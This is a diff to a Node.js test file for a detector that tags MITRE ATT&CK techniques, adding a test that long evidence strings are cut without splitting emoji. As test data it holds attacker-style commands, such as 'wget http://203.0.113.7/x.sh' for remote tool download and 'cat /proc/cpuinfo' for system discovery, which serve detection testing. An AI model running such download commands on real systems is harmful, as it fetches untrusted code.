@@ -2,7 +2,7 @@ import assert from 'node:assert/strict'
 import {basename} from 'node:path'
 import {before, describe, it} from 'node:test'
 
-import {Matcher, MAX_TEXT_LENGTH} from '../../../dist/workers/ttp/matcher.js'
+import {Matcher, MAX_EVIDENCE_LENGTH, MAX_TEXT_LENGTH} from '../../../dist/workers/ttp/matcher.js'
 import {loadRules} from '../../../dist/workers/ttp/rule-loader.js'
 
 // The ATT&CK Enterprise tactics each technique the pack uses belongs to.
@@ -115,6 +115,16 @@ describe('the shipped rule pack', () => {
     const evidence = Object.fromEntries(tags.map((tag) => [tag.technique_id, tag.evidence]))
     assert.equal(evidence.T1082, 'cat /proc/cpuinfo')
     assert.equal(evidence.T1105, 'wget http://203.0.113.7/x.sh')
+  })
+
+  it('cuts long evidence between characters, never inside an emoji', () => {
+    for (let pad = 0; pad < 4; pad++) {
+      const text = `wget http://203.0.113.7/${'a'.repeat(MAX_EVIDENCE_LENGTH - 27 + pad)}${'😀'.repeat(8)}`
+      const [tag] = tagsFor(matcher, text).filter((t) => t.technique_id === 'T1105')
+      assert.ok(tag.evidence.endsWith('…'), tag.evidence)
+      assert.ok(tag.evidence.length <= MAX_EVIDENCE_LENGTH + 1)
+      assert.ok(!/[\ud800-\udbff]…$/.test(tag.evidence), `pad ${pad}: ${JSON.stringify(tag.evidence.slice(-3))}`)
+    }
   })
 
   it('never lets the literal prefilter hide a match the rule\'s regular expression finds', () => {
